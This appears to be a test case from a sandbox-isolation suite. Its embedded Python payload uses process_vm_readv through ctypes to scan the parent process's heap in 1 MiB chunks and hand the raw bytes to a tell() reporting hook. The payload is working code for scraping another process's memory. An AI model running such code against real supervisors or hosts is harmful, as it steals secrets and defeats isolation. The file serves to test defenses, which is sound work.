"""Read the parent's memory by process_vm_readv, which needs no file of /proc."""

LINUX = True
FIRST = """{{TELL}}
import ctypes
import os


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def search(process):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    buffer = ctypes.create_string_buffer(1 << 20)
    mine = Span(ctypes.addressof(buffer), len(buffer))
    budget = 100
    with open("/proc/self/maps") as maps:
        spans = [line.split()[0].split("-") for line in maps if "[heap]" in line]
    for first, last in spans:
        for start in range(int(first, 16), int(last, 16), 1 << 20):
            theirs = Span(start, 1 << 20)
            budget -= 1
            count = libc.process_vm_readv(
                process, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0
            )
            if count <= 0 or budget < 0:
                return
            tell(buffer.raw[:count])


try:
    if os.getppid() > 1:
        search(os.getppid())
except OSError:
    pass
"""
